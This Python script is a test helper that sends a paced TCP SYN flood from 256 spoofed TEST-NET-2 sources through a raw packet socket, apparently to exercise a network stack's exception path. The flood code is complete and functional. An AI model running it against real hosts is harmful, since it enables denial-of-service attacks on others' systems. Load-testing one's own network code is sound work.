#!/usr/bin/python3
"""A TCP SYN flood for the exception-path test (tests/evpn_frr.rs).

    syn_flood.py IFACE DST_MAC DST_IP DST_PORT SECONDS PPS

Sends well-formed TCP SYNs (correct IPv4 and TCP checksums) from 256 spoofed sources in
198.51.100.0/24 (TEST-NET-2, unreachable from the target: its answers go nowhere) to
DST_IP:DST_PORT behind DST_MAC through an AF_PACKET socket, PPS a second (in bursts of 256)
for SECONDS. Prints how many it sent.
"""

import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def syn(src_mac, dst_mac, src_ip, dst_ip, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = src_ip + dst_ip + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), seq & 0xFFFF, 0, 64, 6, 0, src_ip, dst_ip)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return dst_mac + src_mac + b"\x08\x00" + ip + tcp


def main(argv):
    if len(argv) != 6:
        sys.exit(__doc__)
    iface, dst_mac, dst_ip, dport, seconds, pps = argv
    dst_mac = bytes.fromhex(dst_mac.replace(":", ""))
    dst_ip = socket.inet_aton(dst_ip)
    frames = [
        syn(bytes([2, 0x66, 0, 0, 0, i]), dst_mac, bytes([198, 51, 100, i]), dst_ip,
            1024 + i, int(dport), 0x1000 * i)
        for i in range(256)
    ]
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    start = time.monotonic()
    end = start + float(seconds)
    sent = 0
    while time.monotonic() < end:
        for f in frames:
            try:
                s.send(f)
                sent += 1
            except BlockingIOError:
                pass
        # Paced from the start, so a slow round does not lower the rate.
        delay = start + sent / float(pps) - time.monotonic()
        if delay > 0:
            time.sleep(delay)
    print(sent)


if __name__ == "__main__":
    main(sys.argv[1:])
